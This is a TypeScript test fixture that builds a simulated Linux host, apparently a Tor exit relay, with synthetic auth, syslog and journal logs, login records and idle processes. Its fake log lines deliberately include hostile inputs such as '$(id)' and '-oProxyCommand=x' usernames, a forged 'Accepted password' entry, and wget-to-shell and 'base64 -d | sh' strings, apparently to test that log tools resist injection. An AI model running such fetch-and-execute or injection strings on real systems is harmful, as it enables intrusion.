import { existsSync, readFileSync } from 'node:fs';
import { utmpRecord } from './sandbox.ts';
import type { Seed } from './sandbox.ts';

/** How a host keeps its logs: files of rsyslog, a journal and nothing else, or one file for all as BusyBox does. */
export type LogStyle = 'files' | 'journal' | 'messages';

/** An ordinary host of one moment: what lies on it, what is run first, the environment of the login, and whom no output may name. */
export type OrdinaryHost = {
  readonly seed: Seed;
  readonly plant: string;
  readonly environment: readonly string[];
  /** Addresses and names of strangers in its logs. */
  readonly strangers: readonly string[];
};

type Line = { readonly ago: number; readonly program: string; readonly facility: number; readonly text: string };
type Dice = { readonly below: (n: number) => number; readonly of: <T>(list: readonly T[]) => T };

const adminKey = 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIG0pYOmSkGe9fJmoN0T6XkXx5vYQn0sKZbqRzqHkYV1c admin';
const ourKey = `SHA256:${'k'.repeat(43)}`;

/**
 * A host that has been up for weeks, with the noise that every exit and every public sshd has; another one for each seed. People
 * of ours are `admin` from 192.0.2.0/24 and 2001:db8:a::/48, and the desk's account is `exitdesk`.
 */
export function ordinaryHost(style: LogStyle, number: number): OrdinaryHost {
  const dice = diceOf(number);
  const now = Math.floor(Date.now() / 1000);
  const zone = style === 'files' ? dice.of(['Etc/UTC', 'Asia/Tokyo', 'America/St_Johns', 'Europe/Berlin']) : 'Etc/UTC';
  const strangers: string[] = [];
  const stranger = (): string => {
    const v4 = `203.0.${dice.below(256)}.${1 + dice.below(254)}`;
    const found = dice.below(4) === 0 ? `2001:db8:${(0xbad0 + dice.below(15)).toString(16)}::${dice.below(9999)}` : v4;
    strangers.push(found);
    return found;
  };
  const lines = [...authLines(dice, stranger), ...serviceLines(dice, stranger, strangers)].sort(
    (a, b) => b.ago - a.ago,
  );
  const locale = dice.of([[], ['LANG=de_DE.UTF-8'], ['LC_ALL=ja_JP.UTF-8'], ['LANG=C.UTF-8', 'TZ=Asia/Kathmandu']]);
  const zoneFile = `/usr/share/zoneinfo/${zone}`;
  return {
    seed: {
      ...registers(now, dice),
      '/root/.ssh/authorized_keys': `${adminKey}\n`,
      ...(existsSync(zoneFile) ? { '/etc/localtime': readFileSync(zoneFile) } : {}),
      ...(style === 'journal'
        ? { '/root/journal.export': journalExport(lines, now) }
        : logFiles(lines, { style, now, dice, zone })),
    },
    plant: `${wtmpdb}\n${style === 'journal' ? intoJournal : ''}\n${processes(dice)}`,
    environment: locale,
    strangers,
  };
}

const wtmpdb = 'mkdir -p /var/lib/wtmpdb; command -v wtmpdb >/dev/null && wtmpdb boot >/dev/null 2>&1; :';
const intoJournal = `id=$(cat /etc/machine-id); mkdir -p /var/log/journal/$id
/lib/systemd/systemd-journal-remote -o /var/log/journal/$id/system.journal /root/journal.export >/dev/null 2>&1`;

/** mulberry32: the same number throws the same. */
function diceOf(number: number): Dice {
  let state = (number * 2_654_435_761) >>> 0;
  const next = (): number => {
    state = (state + 0x6d2b79f5) >>> 0;
    let t = Math.imul(state ^ (state >>> 15), state | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4_294_967_296;
  };
  const below = (n: number): number => Math.floor(next() * n);
  return { below, of: (list) => list[below(list.length)] as (typeof list)[number] };
}

/** What `last` and `who` read: the boot, and logins of our own people. */
function registers(now: number, dice: Dice): Seed {
  const boot = utmpRecord(2, { line: '~', user: 'reboot', host: '6.1.0-25-amd64', atSeconds: now - 20 * 86_400 });
  const logins = Array.from({ length: 1 + dice.below(6) }, (_, i) =>
    utmpRecord(7, {
      line: `pts/${i}`,
      user: dice.of(['admin', 'exitdesk']),
      host: `192.0.2.${1 + dice.below(200)}`,
      atSeconds: now - (i + 1) * 7_200 - dice.below(3_600),
    }),
  ).toReversed();
  return { '/run/utmp': boot, '/var/log/wtmp': Buffer.concat([boot, ...logins]) };
}

const tried = [
  'root',
  'admin',
  'Accepted',
  'oracle',
  'test',
  'ubuntu',
  'a b c',
  '\u00e4\u00f6\u00fc',
  '-oProxyCommand=x',
  'tor',
  '$(id)',
  'Accepted password for root from 198.51.100.9 port 1 ssh2',
  'sudo',
  ' ',
  '\\377\\364\\377',
  'x'.repeat(300),
];

function authLines(dice: Dice, stranger: () => string): Line[] {
  const at = (program: string, text: string, facility = 10): Line => ({
    ago: 60 + dice.below(80_000),
    program,
    facility,
    text,
  });
  const refused = (): Line => {
    const [user, from, port] = [dice.of(tried), stranger(), 1024 + dice.below(60_000)];
    return at(
      'sshd',
      dice.of([
        `Failed password for invalid user ${user} from ${from} port ${port} ssh2`,
        `Invalid user ${user} from ${from} port ${port}`,
        `Connection closed by authenticating user root ${from} port ${port} [preauth]`,
        `Disconnected from invalid user ${user} ${from} port ${port} [preauth]`,
        `Received disconnect from ${from} port ${port}:11: Bye Bye [preauth]`,
        `error: maximum authentication attempts exceeded for invalid user ${user} from ${from} port ${port} ssh2 [preauth]`,
        `Unable to negotiate with ${from} port ${port}: no matching host key type found. Their offer: ssh-dss [preauth]`,
        `error: kex_exchange_identification: banner line contains invalid characters`,
        `banner exchange: Connection from ${from} port ${port}: invalid format`,
        `pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=${from}  user=root`,
        `message repeated 2 times: [ Failed password for root from ${from} port ${port} ssh2]`,
        `fatal: Timeout before authentication for ${from} port ${port}`,
      ]),
    );
  };
  const own = dice.of(['192.0.2.7', '2001:db8:a::7', '192.0.2.200']);
  return [
    ...Array.from({ length: 100 + dice.below(150) }, refused),
    at('sshd', `Accepted publickey for admin from ${own} port 50022 ssh2: ED25519 ${ourKey}`),
    at('sshd', `Accepted publickey for exitdesk from 192.0.2.10 port 50023 ssh2: ED25519 ${ourKey}`),
    at('sshd', 'pam_unix(sshd:session): session opened for user admin(uid=1000) by (uid=0)'),
    at('sudo', '   admin : TTY=pts/0 ; PWD=/home/admin ; USER=root ; COMMAND=/usr/bin/apt upgrade'),
    at('sudo', 'exitdesk : PWD=/var/lib/exitdesk ; USER=root ; COMMAND=/usr/local/lib/exitdesk/probe'),
    at('systemd-logind', 'New session 42 of user admin.', 4),
    ...Array.from({ length: 20 }, () =>
      at('CRON', 'pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)'),
    ),
    at('useradd', 'new user: name=_chrony, UID=110, GID=115, home=/var/lib/chrony, shell=/usr/sbin/nologin, from=none'),
  ];
}

function serviceLines(dice: Dice, stranger: () => string, strangers: string[]): Line[] {
  const visited = (): string => {
    const name = `visited-${dice.below(1_000_000)}.example`;
    strangers.push(name);
    return name;
  };
  const at = (program: string, text: string, facility = 3): Line => ({
    ago: 60 + dice.below(80_000),
    program,
    facility,
    text,
  });
  const one = (): Line =>
    dice.of([
      () => at('CRON', '(root) CMD (   cd / && run-parts --report /etc/cron.hourly)', 9),
      () => at('CRON', '(admin) CMD (/home/admin/bin/status > /tmp/status.txt 2>&1)', 9),
      () =>
        at(
          'systemd',
          dice.of([
            'Starting apt-daily.service - Daily apt download activities...',
            'Finished logrotate.service - Rotate log files.',
            'Started tor@default.service - Anonymizing overlay network for TCP.',
          ]),
        ),
      () => at('Tor', `[notice] Your system clock just jumped 1 seconds; ${stranger()}:443`),
      () =>
        at(
          'Tor-relay1',
          `[warn] Rejecting request for anonymous connection to private address ${stranger()} (${visited()})`,
        ),
      () =>
        at('kernel', `[UFW BLOCK] IN=eth0 OUT= SRC=${stranger()} DST=198.51.100.10 LEN=40 PROTO=TCP SPT=1 DPT=23`, 0),
      () => at('kernel', 'device veth12ab entered promiscuous mode', 0),
      () => at('unbound', `info: ${stranger()} ${visited()}. A IN`),
      () => at('dnsmasq', `query[A] curl.${visited()} from ${stranger()}`),
      () => at('named', `client @0x7f ${stranger()}#4021 (${visited()}): query: wget.${visited()} IN A`),
      () => at('nginx', `${stranger()} - - "GET /cgi-bin/../../tmp/x?wget+http://${visited()}/x|sh HTTP/1.1" 404`),
      () => at('postfix/smtpd', `connect from ${visited()}[${stranger()}]`, 2),
      () => at('chronyd', `Selected source ${stranger()} (${visited()})`),
      () => at('smartd', 'Device: /dev/sda [SAT], \u72b6\u614b OK \u00e4\u00f6\u00fc \udcff'),
      () => at('app', `${'y'.repeat(5_000)} ${stranger()}`),
      () => at('apt', `Err: https://${visited()} base64 -d | sh`),
    ])();
  return Array.from({ length: 80 + dice.below(120) }, one);
}

function logFiles(
  lines: readonly Line[],
  { style, now, dice, zone }: { style: LogStyle; now: number; dice: Dice; zone: string },
): Seed {
  const iso = style === 'files' && dice.below(2) === 0;
  const text = (wanted: (line: Line) => boolean): readonly string[] =>
    lines.filter(wanted).map((line) => {
      const stamp = iso ? isoStamp(now - line.ago) : oldStamp(now - line.ago, zone);
      return `${stamp} helium ${line.program}${line.program === 'kernel' ? '' : `[${100 + dice.below(9_000)}]`}: ${line.text}`;
    });
  const isAuth = (line: Line): boolean => line.facility === 10 || line.facility === 4;
  if (style === 'messages') return { '/var/log/messages': bytesOf(text(() => true)) };
  const auth = text(isAuth);
  const rest = text((line) => !isAuth(line));
  const cut = dice.below(3) === 0 ? Math.floor(auth.length / 2) : 0;
  return {
    ...(cut > 0 ? { '/var/log/auth.log.1': bytesOf(auth.slice(0, cut)) } : {}),
    '/var/log/auth.log': bytesOf(auth.slice(cut)),
    '/var/log/syslog': bytesOf([
      ...rest,
      '\tat 203.0.113.77 of a line that goes on',
      '203.0.113.78 whose beginning was cut: 203.0.113.79',
    ]),
  };
}

/** Lone surrogates stand for bytes that are no UTF-8. */
function bytesOf(lines: readonly string[]): Buffer {
  const parts = `${lines.join('\n')}\n`.split('\udcff').map((text) => Buffer.from(text));
  return Buffer.concat(parts.flatMap((part, i) => (i === 0 ? [part] : [Buffer.from([0xff, 0xfe]), part])));
}

function isoStamp(seconds: number): string {
  return new Date(seconds * 1000).toISOString().replace('Z', '000+00:00').replace('.000000', '.000000');
}

/** "Nov  2 13:04:05" in the host's own zone (RFC 3164 §4.1.2). */
function oldStamp(seconds: number, zone: string): string {
  const parts = new Intl.DateTimeFormat('en-US', {
    timeZone: zone,
    month: 'short',
    day: 'numeric',
    hour: '2-digit',
    minute: '2-digit',
    second: '2-digit',
    hourCycle: 'h23',
  }).formatToParts(seconds * 1000);
  const of = (type: string): string => parts.find((p) => p.type === type)?.value ?? '';
  return `${of('month')} ${of('day').padStart(2)} ${of('hour')}:${of('minute')}:${of('second')}`;
}

/** The export format of journalctl(1), which systemd-journal-remote turns into a real journal. */
function journalExport(lines: readonly Line[], now: number): Buffer {
  return Buffer.concat(
    lines.map((line, i) =>
      Buffer.concat([
        Buffer.from(
          `__REALTIME_TIMESTAMP=${now - line.ago}000000\n__MONOTONIC_TIMESTAMP=${1_000_000 + i}\n_BOOT_ID=${'1'.repeat(32)}\n_MACHINE_ID=${'2'.repeat(32)}\n_HOSTNAME=helium\n_TRANSPORT=${line.program === 'kernel' ? 'kernel' : 'syslog'}\nSYSLOG_IDENTIFIER=${line.program}\nSYSLOG_FACILITY=${line.facility}\nPRIORITY=6\nSYSLOG_PID=${100 + i}\nMESSAGE=`,
        ),
        bytesOf([line.text]),
        Buffer.from('\n'),
      ]),
    ),
  );
}

/** What runs on it, as far as this userland can start it: idle programs, one that was upgraded, one that holds names of others. */
function processes(dice: Dice): string {
  const programs = [
    'sleep 61 &',
    'command -v bash >/dev/null && bash -c \'exec -a "agent: worker [idle]" sleep 62\' &',
    'mkdir -p /opt/app; cp -L /bin/sleep /opt/app/sleep; (cd /opt/app; ./sleep 63 &); cp -L /bin/sleep /opt/app/new; mv /opt/app/new /opt/app/sleep',
    'command -v perl >/dev/null && perl -e \'$0 = "odd (name) \\xff\\n[x]"; sleep 64\' &',
    'command -v perl >/dev/null && perl -MIO::Socket::INET -e \'$s = IO::Socket::INET->new(Proto => "udp", LocalPort => 0); sleep 65\' &',
    'command -v perl >/dev/null && perl -e \'exit 0 if fork; exec "sleep", "66"\' &',
  ];
  return [...programs.filter(() => dice.below(2) === 0), 'sleep 0.2 2>/dev/null || sleep 1', ':'].join('\n');
}
